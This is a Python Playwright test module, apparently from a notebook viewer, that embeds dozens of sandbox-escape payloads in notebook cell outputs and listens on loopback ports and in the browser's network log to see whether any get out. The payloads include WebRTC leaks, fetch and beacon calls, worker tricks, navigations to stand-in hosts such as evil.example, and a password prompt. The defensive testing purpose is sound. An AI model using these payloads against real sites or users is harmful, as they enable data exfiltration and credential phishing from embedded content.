"""Outputs that want out of their sealed frames, and ears that hear whether they did.

Data flow: every attack has a port of its own on loopback, TCP and UDP, and a name of its own that no server knows. A notebook holds the attacks as
saved outputs of its cells, as a stranger's would; a page opens it, and nobody clicks. What is heard at the ports, looked up by the browser (its own
network log says so), saved, or asked in a dialog, got out.

Invariants: what is waited for is that every frame has shown its output, and then that two canaries, pages that nothing holds, have been heard by TCP
and UDP: an attack had the time that they took, twice. A test proves that the attacks in `LOUD` get out where nothing holds them,
so the table does not come to consist of attacks that fail by themselves.

Rejected: watching the browser's requests alone (peer connections, names looked up and connections made ahead are none).
"""

from __future__ import annotations

import contextlib
import html
import json
import os
import re
import selectors
import socket
import tempfile
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import attrs
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Playwright, Route, expect

from tests.browser.stage import FEATURES_OFF, find_browser

PEER = (
    "{const p=new RTCPeerConnection({iceServers:[{urls:'stun:HOST:PORT'},"
    "{urls:'turn:HOST:PORT?transport=tcp',username:'a',credential:'b'}]});"
    "p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o));(window.kept=window.kept||[]).push(p)}"
)
"""Asks a server of addresses (STUN) by UDP and TCP: what the output knows could stand in the user name."""

TRANSPORT = (
    "new WebTransport('https://127.0.0.1:PORT/x',"
    "{serverCertificateHashes:[{algorithm:'sha-256',value:new Uint8Array(32)}]})"
)


def script(code: str) -> str:
    """Markup that runs code; `T` is an address of its port."""
    return f"<script>{{const T='http://127.0.0.1:PORT';{code}}}</script>"


def inner(markup: str) -> str:
    """A frame in the frame with that as its text."""
    return f'<iframe srcdoc="{html.escape(markup)}"></iframe>'


def made(element: str, setup: str, place: str = "document.body.append(f)") -> str:
    """Code makes an element and puts it into the document."""
    return script(f"const f=document.createElement('{element}');{setup};{place}")


def worker(code: str) -> str:
    """Runs code in a worker."""
    return script(f"new Worker(URL.createObjectURL(new Blob([{json.dumps(code)}])))")


_PEER = PEER.replace("HOST", "127.0.0.1")
_PEER_SCRIPT = json.dumps(f"<script>{_PEER}</script>").replace("</", "<\\/")
_PEER_CODE = json.dumps(f"javascript:{_PEER}")
_SVG = "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='%s'/></foreignObject></svg>"
_SVG = json.dumps(_SVG % html.escape(f"<script>{_PEER}</script>")).replace("</", "<\\/")
_XSLT = (
    "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'>"
    "<xsl:copy-of select=\\\"document('http://127.0.0.1:PORT/x')\\\"/></xsl:template></xsl:stylesheet>"
)

PEERS = {
    "in the frame": script(_PEER),
    "in a frame of text": inner(f"<script>{_PEER}</script>"),
    "in a handler of a frame of text": inner(f'<body onload="{html.escape(_PEER)}">'),
    "in a picture's handler in a frame of text": inner(f'<img src=x onerror="{html.escape(_PEER)}">'),
    "in a javascript: frame": f'<iframe src="{html.escape("javascript:" + _PEER)}"></iframe>',
    "in a made frame of text": made("iframe", f"f.srcdoc={_PEER_SCRIPT}"),
    "in a made frame in a closed shadow": made(
        "iframe",
        f"f.srcdoc={_PEER_SCRIPT};const h=document.createElement('div');document.body.append(h)",
        "h.attachShadow({mode:'closed'}).append(f)",
    ),
    "in a made javascript: frame": made("iframe", f"f.src={_PEER_CODE}"),
    "in a made javascript: frame, set later": made("iframe", "", f"document.body.append(f);f.src={_PEER_CODE}"),
    "with the constructor of a made frame": made(
        "iframe", "document.body.append(f);const RTCPeerConnection=f.contentWindow.RTCPeerConnection", _PEER
    ),
    "with the constructor of a frame's document": made(
        "iframe",
        "document.body.append(f);const RTCPeerConnection=f.contentDocument.defaultView.RTCPeerConnection",
        _PEER,
    ),
    "with the constructor of an object": made(
        "object",
        "f.data='about:blank';document.body.append(f);const RTCPeerConnection=f.contentWindow.RTCPeerConnection",
        _PEER,
    ),
    "in a blob: frame": made("iframe", f"f.src=URL.createObjectURL(new Blob([{_PEER_SCRIPT}],{{type:'text/html'}}))"),
    "in a data: frame": made("iframe", f"f.src='data:text/html,'+encodeURIComponent({_PEER_SCRIPT})"),
    "in a data: object": made(
        "object", f"f.type='text/html';f.data='data:text/html,'+encodeURIComponent({_PEER_SCRIPT})"
    ),
    "in a data: embed": made("embed", f"f.type='text/html';f.src='data:text/html,'+encodeURIComponent({_PEER_SCRIPT})"),
    "in a frame in a frame": inner(inner(f"<script>{_PEER}</script>")),
    "in a blob script of a frame": made(
        "iframe",
        f"const u=URL.createObjectURL(new Blob([{json.dumps(_PEER)}]));f.srcdoc='<script src='+u+'><\\/script>';document.body.append(f)",
        "const h=document.createElement('div');document.body.append(h);const g=document.createElement('iframe');"
        "g.srcdoc=f.srcdoc;h.attachShadow({mode:'closed'}).append(g)",
    ),
    "in a picture of a frame": script(
        f"const d=new DOMParser().parseFromString({_SVG},'image/svg+xml');document.body.append(document.importNode(d.documentElement,true))"
    ),
    "after the frame went to code": script(f"location={_PEER_CODE}"),
    "after the document was written anew": script(
        f"Document.prototype.open.call(document);Document.prototype.write.call(document,{_PEER_SCRIPT});Document.prototype.close.call(document)"
    ),
    "in a worker": worker(_PEER),
    "in a copy of the guest that was told lies": script(
        "const shell='<!doctype html><html name=output><body><form id=output name=getElementById><img name=createElement>"
        "<input id=body></form><script>'+document.querySelector('script:not([src])').text+'<\\/script>';"
        "const h=document.createElement('div');document.body.append(h);const f=document.createElement('iframe');f.srcdoc=shell;"
        f"addEventListener('message',e=>e.source&&e.source.postMessage({{webipy:'show',type:'application/javascript',body:{json.dumps(_PEER)},"
        "before:[],hosts:[],dark:false},'*'));h.attachShadow({mode:'closed'}).append(f)"
    ),
}
"""Peer connections, from wherever code could run."""

REQUESTS = {
    "fetch": script("fetch(T,{mode:'no-cors'}).catch(()=>{})"),
    "fetch in a frame of text": inner("<script>fetch('http://127.0.0.1:PORT/',{mode:'no-cors'})</script>"),
    "fetch at the end": script("addEventListener('pagehide',()=>fetch(T,{keepalive:true,mode:'no-cors'}));document.body.remove()"),
    "fetch later": script("fetchLater(T,{activateAfter:0})"),
    "XMLHttpRequest": script("const r=new XMLHttpRequest();r.open('GET',T);r.send()"),
    "beacon": script("navigator.sendBeacon(T,'x')"),
    "WebSocket": script("new WebSocket('ws://127.0.0.1:PORT')"),
    "EventSource": script("new EventSource(T)"),
    "WebTransport": script(TRANSPORT),
    "fetch in a worker": worker("fetch('http://127.0.0.1:PORT',{mode:'no-cors'})"),
    "WebSocket in a worker": worker("new WebSocket('ws://127.0.0.1:PORT')"),
    "WebTransport in a worker": worker(TRANSPORT),
    "import in a worker": worker("importScripts('http://127.0.0.1:PORT/w.js')"),
    "fetch in a data: worker": script("new Worker('data:text/javascript,'+encodeURIComponent(`fetch('${T}',{mode:'no-cors'})`))"),
    "fetch in a shared worker": script("new SharedWorker(URL.createObjectURL(new Blob([`fetch('${T}',{mode:'no-cors'})`])))"),
    "import in a worklet": script(
        "new OfflineAudioContext(1,9,44100).audioWorklet.addModule(URL.createObjectURL(new Blob([`import '${T}/x.js'`],{type:'text/javascript'})))"
    ),
    "a worker from elsewhere": script("new Worker(T+'/w.js')"),
    "import": script("import(T+'/m.js').catch(()=>{})"),
    "a script": "<script src='http://127.0.0.1:PORT/x.js'></script>",
    "a made script": made("script", "f.src=T"),
    "a picture": script("new Image().src=T+'/i.png'"),
    "style sheets": "<link rel=stylesheet href='http://127.0.0.1:PORT/a.css'><style>@import 'http://127.0.0.1:PORT/d.css';p{background:"
    "url(http://127.0.0.1:PORT/e);content:image-set(url('http://127.0.0.1:PORT/a') 1x);cursor:url(http://127.0.0.1:PORT/c),auto}</style>"
    "<p>x</p><script>1</script>",
    "a font": script("new FontFace('f',`url(${T}/f.woff2)`).load().catch(()=>{})"),
    "media": "<video src='http://127.0.0.1:PORT/v' poster='http://127.0.0.1:PORT/p'></video><audio src='http://127.0.0.1:PORT/a'></audio>"
    "<script>1</script>",
    "parts of a picture": "<svg><use href='http://127.0.0.1:PORT/u.svg#a'/><image href='http://127.0.0.1:PORT/u'/><filter>"
    "<feImage href='http://127.0.0.1:PORT/f'/></filter></svg><script>1</script>",
    "a form": "<form action='http://127.0.0.1:PORT/' method=post><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "a form that asks": "<form action='http://127.0.0.1:PORT/'><input name=a value=b></form><script>document.forms[0].submit()</script>",
    "a ping": script("const a=document.createElement('a');a.href='#x';a.ping=T;document.body.append(a);a.click()"),
    "speculation": script(
        "const s=document.createElement('script');s.type='speculationrules';s.textContent=JSON.stringify({prefetch:[{source:'list',"
        "urls:[T+'/s'],eagerness:'immediate'}],prerender:[{source:'list',urls:[T+'/p'],eagerness:'immediate'}]});document.head.append(s)"
    ),
    "a report": script(
        "const m=document.createElement('meta');m.httpEquiv='Content-Security-Policy';m.content=`img-src 'none'; report-uri ${T}/r`;"
        "document.head.append(m);new Image().src='data:,x'"
    ),
    "a fenced frame": made("fencedframe", "try{f.config=new FencedFrameConfig(T)}catch{}"),
    "a portal": made("portal", "f.src=T"),
    "objects and frames": "<object data='http://127.0.0.1:PORT/o'></object><embed src='http://127.0.0.1:PORT/e'>"
    "<iframe src='http://127.0.0.1:PORT/f'></iframe><script>1</script>",
    "a set of frames": made("frameset", "const g=document.createElement('frame');g.src=T;f.append(g)"),
    "a style sheet of a document": script(f'const x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString("{_XSLT}","text/xml"));'
    "x.transformToFragment(new DOMParser().parseFromString('<a/>','text/xml'),document)"),
    "other asking": script(
        "const tries=[()=>navigator.serviceWorker.register(T),()=>new PaymentRequest([{supportedMethods:T}],{total:{label:'x',"
        "amount:{currency:'USD',value:'1'}}}).canMakePayment(),()=>navigator.credentials.get({identity:{providers:[{configURL:T+'/c',"
        "clientId:'1'}]}}),()=>navigator.joinAdInterestGroup({owner:T,name:'x'},9),()=>sharedStorage.worklet.addModule(T)];"
        "for(const one of tries){try{one()?.catch?.(()=>{})}catch{}}"
    ),
    **{
        f"a link for {rel}": f"<link rel='{rel}' as=script href='http://127.0.0.1:PORT/l' crossorigin><script>1</script>"
        for rel in ("prefetch", "preload", "modulepreload", "prerender", "icon", "manifest", "preconnect", "compression-dictionary")
    },
    "a made link for preconnect": made("link", "f.rel='preconnect';f.href=T", "document.head.append(f)"),
    "a link for preconnect in a frame of text": inner("<link rel=preconnect href='http://127.0.0.1:PORT/'>") + "<script>1</script>",
}  # fmt: skip
"""Requests, and connections that are made ahead of them."""

NAVIGATIONS = {
    "an address": script("location=T"),
    "an address with TLS": script("location='https://127.0.0.1:PORT'"),
    "an address, later": script("setTimeout(()=>location.replace(T),50)"),
    "the Navigation API": script("navigation.navigate(T)"),
    "a refresh": "<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/'><script>1</script>",
    "a refresh in a frame of text": inner("<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/'>") + "<script>1</script>",
    "an address in a frame of text": inner("<script>location='http://127.0.0.1:PORT/'</script>"),
    "a link": script("const a=document.createElement('a');a.href=T;document.body.append(a);a.click()"),
    "a link to a new window": script("const a=document.createElement('a');a.href=T;a.target='_blank';document.body.append(a);a.click()"),
    "a link whose click is hidden": script("const a=document.createElement('a');a.href=T;document.body.append(a);a.onclick=e=>e.stopPropagation();a.click()"),
    "a link of a picture": script("const a=document.createElementNS('http://www.w3.org/2000/svg','a');a.setAttribute('href',T);document.body.append(a);"
    "a.dispatchEvent(new MouseEvent('click',{bubbles:true}))"),
    "a link told to the page": script("parent.postMessage({webipy:'link',address:T,text:''},'*')"),
    "a window": script("open(T)"),
    "a window of its own": script("open(T,'_blank','noopener')"),
    "the page": script("try{parent.location=T}catch{};try{top.location=T}catch{}"),
    "a form to a new window": "<form target=_blank action='http://127.0.0.1:PORT/'><input name=a></form><script>document.forms[0].submit()</script>",
    "a download from elsewhere": script("const a=document.createElement('a');a.href=T+'/f';a.download='f';document.body.append(a);a.click()"),
    "an address of this server": script("location='/frame?host=evil.example'"),
    "what was there before": script("try{history.pushState(0,'',T)}catch{};try{history.go(-1)}catch{}"),
}  # fmt: skip
"""Ways to another address. The page takes the frame away that tries."""

NAMES = {
    "a name looked up ahead": "<link rel=dns-prefetch href='//NAME/'><meta http-equiv=x-dns-prefetch-control content=on><a href='http://NAME/'>x</a>"
    "<script>1</script>",
    "a name connected to ahead": "<link rel=preconnect href='http://NAME/'><script>1</script>",
    "a name in a request": script("fetch('http://NAME/',{mode:'no-cors'})"),
    "a name in an address": script("location='http://NAME/'"),
    "a name in a peer connection": inner(f"<script>{PEER.replace('HOST', 'NAME')}</script>"),
}
"""Names that the browser would look up: what the output knows could stand in them."""

LOCAL = {
    "a file of its own": script("const a=document.createElement('a');a.href=URL.createObjectURL(new Blob(['x']));a.download='f';document.body.append(a);a.click()"),
    "a file in an address": script("const a=document.createElement('a');a.href='data:text/plain,x';a.download='f';document.body.append(a);a.click()"),
    "a file of a frame of text": inner("<a id=a download=f href='data:text/plain,x'>x</a><script>a.click()</script>"),
    "a file to go to": script("location=URL.createObjectURL(new Blob(['x'],{type:'application/octet-stream'}))"),
    "a prompt": script("setTimeout(()=>Window.prototype.prompt?.call(window,'password')??prompt('password'))"),
    "an alert": script("setTimeout(()=>{alert('x')})"),
    "a question": script("setTimeout(()=>{confirm('x')})"),
    "printing": script("setTimeout(()=>{print()})"),
    "a prompt of a frame of text": inner("<script>setTimeout(()=>prompt('x'))</script>"),
    "a question at the end": script("addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='x'})"),
    "what is kept": script(
        "for(const one of [()=>document.cookie='a=1',()=>localStorage.a=1,()=>sessionStorage.a=1,()=>indexedDB.open('a'),()=>caches.open('a'),"
        "()=>cookieStore.set('a','1')]){try{one()?.catch?.(()=>{})}catch{}}"
    ),
}  # fmt: skip
"""Files saved, dialogs opened, things kept, in the name of this server."""

ATTACKS = {
    f"{kind}: {name}": markup
    for kind, table in (
        ("peers", PEERS), ("requests", REQUESTS), ("navigations", NAVIGATIONS), ("names", NAMES), ("local", LOCAL),
    )
    for name, markup in table.items()
}  # fmt: skip
_QUIET = {
    *(
        "in a made javascript: frame, set later",
        "with the constructor of a made frame",
        "with the constructor of a frame's document",
    ),
    *(
        "with the constructor of an object",
        "in a blob script of a frame",
        "after the frame went to code",
        "in a worker",
    ),
    *(
        "in a copy of the guest that was told lies",
        "fetch at the end",
        "fetch later",
        "WebTransport in a worker",
        "fetch in a shared worker",
    ),
    *(
        "a worker from elsewhere",
        "speculation",
        "a report",
        "a fenced frame",
        "a portal",
        "a style sheet of a document",
        "other asking",
    ),
    *(
        "a link for prefetch",
        "a link for prerender",
        "a link for icon",
        "a link for manifest",
        "a link for compression-dictionary",
    ),
    *(
        "a link to a new window",
        "a window",
        "a window of its own",
        "the page",
        "a form to a new window",
        "an address of this server",
    ),
    *(
        "what was there before",
        "a link told to the page",
        "a link for preconnect",
        "a made link for preconnect",
        "a link for preconnect in a frame of text",
    ),
}
LOUD = [name for name in ATTACKS if not name.startswith(("names", "local")) and name.partition(": ")[2] not in _QUIET]
"""Attacks that get out of any sandboxed frame which nothing else holds. The quiet ones need a browser with other settings, or a sealed frame to be
attacks on; those of names and those that are local are heard otherwise."""

BATCH = 30
"""Frames of one page; more are slow, not wrong."""

PATIENCE_MS = 120_000


@attrs.define
class Ears:
    """A port for each name, TCP and UDP alike, and what was heard there."""

    ports: dict[str, int] = attrs.field(factory=dict)
    heard: dict[str, set[str]] = attrs.field(factory=dict)
    _selector: selectors.BaseSelector = attrs.field(factory=selectors.DefaultSelector)
    _ended: threading.Event = attrs.field(factory=threading.Event)
    _changed: threading.Condition = attrs.field(factory=threading.Condition)

    def listen(self, name: str) -> int:
        """The port of that name, opened when it is first asked for."""
        if name in self.ports:
            return self.ports[name]
        while True:
            tcp = socket.create_server(("127.0.0.1", 0))
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                udp.bind(tcp.getsockname())
                break
            except OSError:  # somebody has that one
                tcp.close()
                udp.close()
        for one, kind in ((tcp, "tcp"), (udp, "udp")):
            one.setblocking(False)
            self._selector.register(one, selectors.EVENT_READ, (name, kind))
        self.ports[name] = tcp.getsockname()[1]
        return self.ports[name]

    def run(self) -> None:
        """Hears until it is ended."""
        while not self._ended.is_set():
            for key, _ in self._selector.select(0.1):
                name, kind = key.data
                sock: Any = key.fileobj
                with contextlib.suppress(OSError):
                    if kind == "tcp":
                        sock.accept()[0].close()
                    else:
                        sock.recv(2048)
                with self._changed:
                    self.heard.setdefault(name, set()).add(kind)
                    self._changed.notify_all()

    def wait(self, what: Callable[[], bool], seconds: float = PATIENCE_MS / 1000) -> bool:
        """Waits until that is so; whether it came to be."""
        with self._changed:
            return self._changed.wait_for(what, seconds)

    def end(self) -> None:
        """Closes all ports."""
        self._ended.set()
        for key in list(self._selector.get_map().values()):
            sock: Any = key.fileobj
            sock.close()
        self._selector.close()


@contextlib.contextmanager
def ears() -> Iterator[Ears]:
    """Ears that hear as long as the block runs."""
    them = Ears()
    for name in ATTACKS:
        them.listen(name)
    for number in range(100):
        them.listen(f"canary {number}")
    thread = threading.Thread(target=them.run, daemon=True)
    thread.start()
    try:
        yield them
    finally:
        them._ended.set()
        thread.join()
        them.end()


def name_of(attack: str) -> str:
    """The name that an attack would have looked up."""
    return f"a{re.sub('[^a-z]', '', attack)}.evil.test"


def marked(attack: str, heard: Ears) -> str:
    """An attack with its own port and name."""
    return ATTACKS[attack].replace("PORT", str(heard.listen(attack))).replace("NAME", name_of(attack))


@attrs.define
class Escaped:
    """What got out, by the attack; dialogs and files have none."""

    out: dict[str, list[str]] = attrs.field(factory=dict)
    dialogs: list[str] = attrs.field(factory=list)
    files: list[str] = attrs.field(factory=list)
    windows: list[str] = attrs.field(factory=list)
    crashed: int = 0

    def lines(self) -> list[str]:
        """A line for each."""
        return [
            *(f"{attack} ({', '.join(ways)})" for attack, ways in self.out.items()),
            *(f"dialog: {one}" for one in self.dialogs),
            *(f"file saved: {one}" for one in self.files),
            *(f"window: {one}" for one in self.windows),
            *(["the page crashed"] * self.crashed),
        ]


@attrs.define
class Sealing:
    """Opens notebooks full of attacks in a browser.

    Args:
        browser: Launched with `--log-net-log` to `log`.
        log: The network log of the browser, whole once that is closed.
        origin: The server's address.
        sign_in: Lets a context in.
        open_notebook: Makes a session of a notebook file of that content; gives its id.
    """

    browser: Browser
    log: Path
    origin: str
    sign_in: Callable[[BrowserContext], None]
    open_notebook: Callable[[str], str]
    escaped: Escaped = attrs.field(factory=Escaped)
    _canaries: int = 0

    def _watch(self, context: BrowserContext) -> Page:
        page = context.new_page()
        escaped = self.escaped

        def asked(dialog: Dialog) -> None:
            escaped.dialogs.append(f"{dialog.type} {dialog.message}")
            dialog.dismiss()

        def crashed(_: Page) -> None:
            escaped.crashed += 1

        page.on("dialog", asked)
        page.on("download", lambda download: escaped.files.append(download.url))
        page.on("popup", lambda popup: escaped.windows.append(popup.url))
        page.on("crash", crashed)
        return page

    def attack(self, heard: Ears, attacks: list[str], without: str | None = None) -> None:
        """Opens the attacks as one notebook, waits until each has run, and until two canaries were heard after them.

        Args:
            heard: The ears.
            attacks: Names of attacks.
            without: A header of the frame's document that this browser is to know nothing of.
        """
        cells = [
            {"id": f"c{number}", "cell_type": "code", "source": name, "metadata": {}, "execution_count": 1,
             "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": marked(name, heard)}}]}
            for number, name in enumerate(attacks)
        ]  # fmt: skip
        spec = {"name": "python3", "display_name": "Python 3", "language": "python"}
        session = self.open_notebook(
            json.dumps({"cells": cells, "metadata": {"kernelspec": spec}, "nbformat": 4, "nbformat_minor": 5})
        )
        context = self.browser.new_context(viewport={"width": 1280, "height": 8000})
        if without is not None:
            context.route("**/frame*", lambda route: _less(route, without.lower()))
        self.sign_in(context)
        page = self._watch(context)
        page.goto(f"{self.origin}/s/{session}")
        cell = page.locator(".cell")
        expect(cell).to_have_count(len(attacks), timeout=PATIENCE_MS)
        done = page.locator(".cell:has(iframe.sealed[style*=height]), .cell:has(.out .banner.warn)")
        expect(done).to_have_count(len(attacks), timeout=PATIENCE_MS)
        for _ in range(2):
            self._canary(heard, context)
        context.close()

    def _canary(self, heard: Ears, context: BrowserContext) -> None:
        name = f"canary {self._canaries}"
        self._canaries += 1
        page = context.new_page()
        page.evaluate(PEER.replace("HOST", "127.0.0.1").replace("PORT", str(heard.listen(name))))
        if not heard.wait(lambda: heard.heard.get(name) == {"tcp", "udp"}):
            raise AssertionError(f"The {name} was not heard in {PATIENCE_MS} ms: {heard.heard.get(name)}")
        page.close()

    def judge(self, heard: Ears, attacks: list[str]) -> Escaped:
        """Closes the browser and says what got out."""
        self.browser.close()
        text = self.log.read_text("utf-8", errors="replace")
        for attack in attacks:
            ways = sorted(heard.heard.get(attack, ()))
            # Chromium's resolver tells of each name that it is asked for, as "host" of its request
            if re.search(rf'"host":"(?:https?://)?{re.escape(name_of(attack))}[:"]', text):
                ways.append("dns")
            if ways:
                self.escaped.out[attack] = ways
        return self.escaped


@contextlib.contextmanager
def open_pages(heard: Ears) -> Iterator[str]:
    """A server of pages that nothing holds: its first has a frame for each attack in `LOUD`. Gives its address."""

    class Open(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            number = self.path[1:]
            frames = (f"<iframe src=/{one} sandbox='allow-scripts allow-forms'></iframe>" for one in range(len(LOUD)))
            body = marked(LOUD[int(number)], heard) if number.isdigit() else "".join(frames)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<!doctype html><body>{body}".encode())

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Open)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def _less(route: Route, name: str) -> None:
    answer = route.fetch()
    route.fulfill(response=answer, headers={key: value for key, value in answer.headers.items() if key != name})


def batches() -> Iterator[list[str]]:
    """All attacks, some at a time."""
    names = list(ATTACKS)
    for at in range(0, len(names), BATCH):
        yield names[at : at + BATCH]


@contextlib.contextmanager
def noting_browser(driver: Playwright) -> Iterator[tuple[Browser, Path]]:
    """A browser that writes down what it does on the network, and where."""
    with tempfile.TemporaryDirectory(prefix="webipy-netlog-") as folder:
        log = Path(folder) / "log.json"
        options = [f"--disable-features={','.join(FEATURES_OFF)}", f"--log-net-log={log}"]
        if os.geteuid() == 0:
            options.append("--no-sandbox")  # Chromium refuses to sandbox itself as root
        browser = driver.chromium.launch(executable_path=find_browser(), args=options)
        try:
            yield browser, log
        finally:
            browser.close()
